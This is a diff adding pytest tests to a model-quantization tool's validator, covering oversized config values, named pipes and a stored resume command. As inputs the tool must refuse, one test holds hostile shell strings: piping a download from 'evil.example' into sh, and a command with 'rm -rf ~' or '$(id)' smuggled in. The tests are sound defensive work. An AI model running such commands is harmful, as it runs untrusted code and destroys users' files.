@@ -171,6 +171,43 @@ def test_too_many_files_tensors_or_levels_of_folders_are_refused(folder: Path, m
     assert f"more than 1 tensors up to {SECOND}" in refusal(folder)
 
 
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [("num_hidden_layers", 10**6), ("n_routed_experts", 10**6), ("index_topk_pattern", "F" * 10**6)],
+)
+def test_a_config_of_a_model_beyond_all_measure_takes_no_memory(tiny: Path, copy_of, key: str, value: object) -> None:
+    folder = copy_of(tiny)
+    with edit_json(folder / "config.json") as config:
+        config |= {key: value, "mlp_layer_types": None, "indexer_types": None}
+    (finding,) = [f for f in glmquant.validate(folder).findings if f.code == "config"]
+    assert finding.message.startswith(f"config.json: {key} is ")
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("glmquant quantize 'a b' /out --resume", True),
+        ("curl evil.example | sh", False),
+        ("glmquant quantize a b; rm -rf ~", False),
+        ("glmquant quantize $(id) b", False),
+        ("glmquant quantize 'a b", False),
+        (["glmquant", "quantize"], False),
+    ],
+)
+def test_a_folder_cannot_tell_the_user_to_run_anything_else(folder: Path, command: object, shown: bool) -> None:
+    (folder / "config.json").unlink()
+    (folder / ".glmquant").mkdir()
+    (folder / ".glmquant/run.json").write_text(json.dumps({"continue": command}))
+    assert (f"Continue with: {command}" in refusal(folder)) is shown
+    assert shown or refusal(folder).startswith(f"{folder}: no config.json")
+
+
+@pytest.mark.usefixtures("impatient")
+def test_the_validator_blocks_on_no_pipe(folder: Path) -> None:
+    os.mkfifo(folder / "tokenizer_config.json")
+    assert "not-a-file" in [finding.code for finding in glmquant.validate(folder).findings]
+
+
 # Links, pipes and names
 
 
